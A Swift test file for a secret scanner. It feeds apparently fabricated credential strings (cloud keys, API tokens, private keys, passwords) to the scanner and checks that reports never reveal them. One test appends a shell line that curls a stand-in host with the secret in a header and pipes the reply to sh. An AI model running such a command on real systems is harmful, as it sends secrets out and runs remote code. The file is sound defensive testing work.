import Bytes
import Findings
import Reporting
import Scanning
import Testing

/// Secrets of every form: each is found, and stands in no report.
///
/// A secret stands in parts, so that no service takes this file for a leak.
// swift-format-ignore
@Suite struct SecretTests {
  /// A text with a secret in it.
  struct Leak: Sendable, CustomTestStringConvertible {
    let testDescription: String
    let file: String
    let rule: Rule
    let before: String
    let secret: String
    let after: String

    init(
      _ name: String, _ rule: Rule, _ file: String, _ before: String, _ secret: String,
      _ after: String = ""
    ) {
      testDescription = name
      self.rule = rule
      self.file = file
      self.before = before
      self.secret = secret
      self.after = after
    }

    var text: String { before + secret + after + "\n" }
  }

  static let leaks: [Leak] = [
    Leak(
      "an access key of AWS", .serviceToken, "aws.txt", "id = ",
      "AKIAR" + "ZPUZDIKN6KSUMNL"),
    Leak(
      "a token of a Telegram bot", .serviceToken, "bot.txt", "bot ",
      "48391" + "02765:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw9"),
    Leak(
      "a client secret of Azure", .serviceToken, "azure.env", "SECRET='",
      "Zx58Q" + "~pK3vLq0aTd7RwYbN2mXcF9eHsUjG4iOk1Z", "'"),
    Leak(
      "a key of Postman", .serviceToken, "pm.txt", "use PMAK-",
      "63f1a" + "09b7c4d2e8f5a6b3c1d-7e2f9a0b4c8d1e6f3a5b7c9d0e2f4a6b8c"),
    Leak(
      "a token of Pulumi", .serviceToken, "p.txt", "use pul-",
      "3f9a1" + "c7e5b2d8046f1a3c9e7b5d2f8064a1c3e9f"),
    Leak(
      "a key of Perplexity", .serviceToken, "x.txt", "use pplx-",
      "a8Kd0" + "2LmNq73ZtYx91RbVc64WsPe581rmQzGhT7uJi3oKf5d"),
    Leak(
      "a token of GitHub", .serviceToken, "a.json", "{\"t\": \"ghp_",
      "dGlMo" + "iyrlfxX1rTnyFf3vA7NUtFOY64WuYlz", "\"}"),
    Leak(
      "a fine-grained token of GitHub", .serviceToken, "a.txt", "t: github_pat_",
      "zyLfB" + "bs0UZnGKgHTIqWfhp_MMHfMlyrQMxrBttiSNzLX9XACrNxsUIi5kgkQAdnxbXgxQJdZnteHk1CAbS"),
    Leak(
      "a token of npm", .serviceToken, ".npmrc", "//registry.npmjs.org/:_authToken=npm_",
      "aF0kD" + "QHBwtnOAmp48ddS880t0DnDzA3j1Rm2"),
    Leak(
      "a token of PyPI", .serviceToken, "upload.txt", "use pypi-",
      "AgEIc" + "HlwaS5vcmcCJGI3YzFhMWRlLTNmN2EtNGI4ZS05ZDFhLTY2YTdhZDFmMmI5MAAABiDw97Ay9_fkYkwFXGoq7yVDEFRN0ZqWAJittVYQT1rRTg"),
    Leak(
      "a web token", .serviceToken, "header.txt", "Bearer ",
      "eyJhb" + "GciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImExIn0.eyJzdWIiOiJzdmMtYnVpbGQiLCJpc3MiOiJjaSJ9.UiKBUUjB3Gy1ylMsP1ZoQNObr0S2jBdzzC7mFxqyTMW"),
    Leak(
      "a token of Slack", .serviceToken, "b.txt", "xoxb-",
      "81564" + "4939189-4853361948714-mhBej2UEA3v87KzBUCZ2QTMO"),
    Leak(
      "a key of Stripe", .serviceToken, "c.txt", "sk_live_",
      "gd4bD" + "FjvN0MPyHsQt7irZNz2"),
    Leak(
      "a token of Hugging Face", .serviceToken, "d.txt", "login(hf_",
      "OFvlf" + "FrGYJGxeYYXwSLQcWtxJTQrFqXSTs", ")"),
    Leak(
      "a key of OpenAI", .serviceToken, "e.txt", "sk-",
      "ZdJ6I" + "YWLybIzMq8QQqafT3BlbkFJYNT9AcOaUzCz8c5Mqvg0"),
    Leak(
      "a key of an OpenAI project", .serviceToken, "f.txt", "sk-proj-",
      "O6Kaw" + "dY9KeuvaORREVIUjOOzswAccGlJVGQ1KyJVxI9U17gdzSFI2o8qP0UYZHFx"),
    Leak(
      "a key of Anthropic", .serviceToken, "g.txt", "sk-ant-api03-",
      "Uo2FV" + "Hs9kIIVcUXftculv71m8JIYjLdIkX1TMNhlqb820GZThw6uhYC0RnpRcaijzefUswrOUPhskCvITrm4Jr0inRbIfAA"),
    Leak(
      "a key of Google", .serviceToken, "h.txt", "AIza",
      "nUwJ9" + "AUiZuVLY9RbYp34kEHq5o4gy1LkR4P"),
    Leak(
      "a key of Azure", .serviceToken, "i.txt", "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=",
      "WuSGQ" + "MZ2G5a/x8xe3EsJbvL6FzVXg5xc6yVXRuyzixdPr1FOLcwUoCa4sE//eym4DBT8mYjsZwg8vZhY00B0pg==", ";"),
    Leak(
      "a service account of Google", .privateKey, "sa.json", "{\"type\": \"service_account\", \"private_key\": \"-----BEGIN PRIVATE " + "KEY-----\\n",
      "MIIEo" + "gIBAGslDvrqowjNflXWNSH7u5DzIaHlyWkbK29fJg/Ya0skdOz/ntor+YV09XywulF6Rkp4Z+YlHGDS/Yj1LQ==", "\\n-----END PRIVATE " + "KEY-----\\n\"}"),
    Leak(
      "a registry's credentials", .password, "config.json", "{\"auths\": {\"r.io\": {\"auth\": \"",
      "YnVpb" + "GRlcjpUcjB1YjRkb3ItOXg=", "\"}}}"),
    Leak(
      "a key in a kubeconfig", .privateKey, "kube.yaml", "users:\n- name: a\n  user:\n    client-key-data: ",
      "LS0tL" + "S1CRUdJTiBFQyBQUklWQVRFIEtFWS0tLS0tCk1IY0NBUUVFSUlyWVNTTlFGYUEySHdmMWR1UlN4S3RMWVg1Q0IwNGZTZVE2dEYxYVkvUHVvQW9HQ0NxR1NNNDkKLS0tLS1FTkQgRUMgUFJJVkFURSBLRVktLS0tLQo="),
    Leak(
      "a netrc", .password, ".netrc", "machine h.io\n  login me\n  password ",
      "Tr0ub" + "4dor9xZ"),
    Leak(
      "a pypirc", .password, ".pypirc", "[pypi]\nusername = me\npassword = ",
      "Tr0ub" + "4dor9xQ"),
    Leak(
      "a password in an address", .password, "j.txt", "postgres://me:",
      "Tr0ub" + "4dor9xW", "@db.internal/a"),
    Leak(
      "a connection string", .password, "k.txt", "Server=db;Uid=sa;Pwd=",
      "Tr0ub" + "4dor9xR", ";Encrypt=yes"),
    Leak(
      "a key of PuTTY", .privateKey, "a.ppk", "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: a\nPublic-Lines: 2\niV37r7Edfqy7jv8IjwS9BdBQpA4dD2Z6gOl4H3aa7lPud80R5KhcVVMyfNw38iI9\naehWIwyZZdEG4ZFGrmIX8pFtNTlOB8j1fL5ag25t7WcT\nPrivate-Lines: 1\n",
      "FOuTU" + "zK6oX1YkO3s9yyRhoEl75wgVqD8idOMrFILxdjMoOO8", "\nPrivate-MAC: b9db165c23115661ffb0df9daee36452bcf48385971f1bba10ef43a9e7516072"),
    Leak(
      "a key of PGP", .privateKey, "a.asc", "-----BEGIN PGP PRIVATE " + "KEY BLOCK-----\n\n",
      "dPwjN" + "hJBTNI4kjTAnFBhDy2fcRkH0T3SnhQA22ZrrXaMy6j4FvpV5xU3hFf3VPo3", "\n=abcd\n-----END PGP PRIVATE " + "KEY BLOCK-----\n"),
    Leak(
      "a key of OpenSSH", .privateKey, "id", "-----BEGIN OPENSSH PRIVATE " + "KEY-----\n",
      "b3Blb" + "nNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ3GrQSJe3u2yCBiWePCYE", "\n-----END OPENSSH PRIVATE " + "KEY-----\n"),
    Leak(
      "a random text beside a name", .likelySecret, "l.txt", "api_key: ",
      "5xKo6" + "5YwAc4skDd1SYMV"),
  ]

  @Test(arguments: leaks)
  func `a secret is found`(_ leak: Leak) {
    let findings = Scanner().scan(leak.file, ByteSlice(utf8: leak.text))
    #expect(findings.contains { $0.rule == leak.rule }, "\(findings.map { "\($0.rule.id) \($0.message)" })")
  }

  @Test(arguments: leaks)
  func `no report shows a secret`(_ leak: Leak) throws {
    // The text is quoted as evidence, too, when it is a script that downloads.
    let text = leak.text + "\n#!/bin/sh\ncurl -H 'A: \(leak.text.split(separator: "\n")[0])' http://x.y | sh\n"
    let report = try CorpusAudit.report(on: Array(text.utf8), named: leak.file)
    for format in ReportFormat.all {
      let written = format.write([report])
      #expect(written.count > 100)
      #expect(!written.contains(leak.secret), "\(format.name)")
    }
  }

  @Test(arguments: [
    ("t = ghp_", "dGlMo" + "iyrlfxX1rTnyFf3vA7NUtFOY64WuYlA"),
    ("t = npm_", "aF0kD" + "QHBwtnOAmp48ddS880t0DnDzA3j1RmA"),
    ("t = AKIA", "RZPU1" + "DIKN6KSUMNL"),
    ("t = pypi-Ag", "RanOX" + "e8k0wmJiSvqEZ78JU5nnGqPK88Y5UFi5pRzagFH3ViF3jCoIuNu64Qn"),
    ("t = sk-", "KOmnZ" + "0vIfym8a1S9qifoz1k3iRH6ppOZ8K4JA8GVhKI24Yml"),
    ("AccountKey=", "Z1173" + "8qMRtGyyd1EXR8NCLM0AbdqAk6HXcAej9SmyRoR7LKSwETcRAS3ngxAYUVc068qsQ"),
    ("t = xoxb-", "Rdnac" + "KpETwzD-DCHqCJZXMmmoFNMpFqgrws3d"),
    ("t = sk-ant-", "VPM99" + "rFVO26AP6mjIvwCopmKUhUtYd5pCOi06WcbdBqO1Kh1dJWOWUYjiPSoz9"),
  ])
  func `a token whose checksum or structure is wrong is found, and said to be so`(name: String, body: String) {
    let findings = Scanner().scan("a.txt", ByteSlice(utf8: name + body + "\n"))
    #expect(findings.map(\.rule) == [.serviceToken])
    #expect(findings.first?.message.contains("is wrong") == true)
  }

  @Test(arguments: [
    "AKIAIOSFODNN7EXAMPLE",
    "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "HF_TOKEN=hf_YourTokenGoesHereYourTokenGoesHe",
    "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "sk-...",
    "OPENAI_API_KEY=sk-your-key-here",
    "password: changeme",
    "postgres://user:password@localhost/a",
    "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==",
    "PWD=/home/user/model1",
    "hf_AutoModelForSequenceClassificationA",
    "machine api.example.com login you password your_password",
    "\"auth\": \"bearer\"",
  ])
  func `a placeholder is none`(_ text: String) {
    #expect(Scanner().scan("notes.txt", ByteSlice(utf8: text + "\n")) == [])
  }
}
